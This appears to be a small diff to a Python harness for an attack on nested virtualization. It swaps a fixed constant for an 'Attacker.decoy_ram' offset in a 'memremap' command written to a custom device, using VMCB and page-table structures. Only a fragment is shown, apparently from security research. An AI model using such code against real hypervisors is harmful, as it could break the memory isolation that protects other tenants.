@@ -28,7 +28,6 @@ from .nested_target import CODE, IDENTITY_4M, PAGE_DIRECTORY, PROGRAM, VMCB, set
 
 MIB = 1 << 20
 DEVICE = "/dev/offmap-alias"
-MOVED = 0x6000_0000 + MIB  # of the decoy's RAM
 
 
 def page(_number: int) -> None:
@@ -36,7 +35,7 @@ def page(_number: int) -> None:
 
     def mapped() -> int:
         fd = os.open(DEVICE, os.O_RDWR)
-        os.write(fd, f"memremap {MOVED:#x} 4096".encode())
+        os.write(fd, f"memremap {Attacker.decoy_ram + MIB:#x} 4096".encode())
         return fd
 
     def work() -> None:
